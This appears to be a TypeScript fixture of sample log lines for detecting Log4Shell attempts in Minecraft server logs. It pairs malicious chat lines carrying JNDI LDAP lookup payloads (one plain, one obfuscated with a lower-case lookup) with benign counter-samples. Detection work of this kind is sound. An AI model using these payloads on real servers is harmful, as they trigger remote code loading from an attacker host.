import type { LineSamples } from "../samples.ts";

export default {
  samples: [
    { text: "[12:00:01] [Server thread/INFO]: <Griefer> \u0024{jndi:ldap://203.0.113.66/a}", parameters: {} },
    {
      text: "[12:00:01] [Server thread/INFO]: <Griefer> \u0024{\u0024{lower:j}ndi:ldap://203.0.113.66/a}",
      parameters: {},
    },
  ],
  counterSamples: [
    "[12:00:01] [main/INFO]: Opening jdk.naming.dns/com.sun.jndi.dns to java.naming",
    "[12:00:01] [Server thread/INFO]: <Alex> \u0024{player} jndi:",
  ],
} satisfies LineSamples;
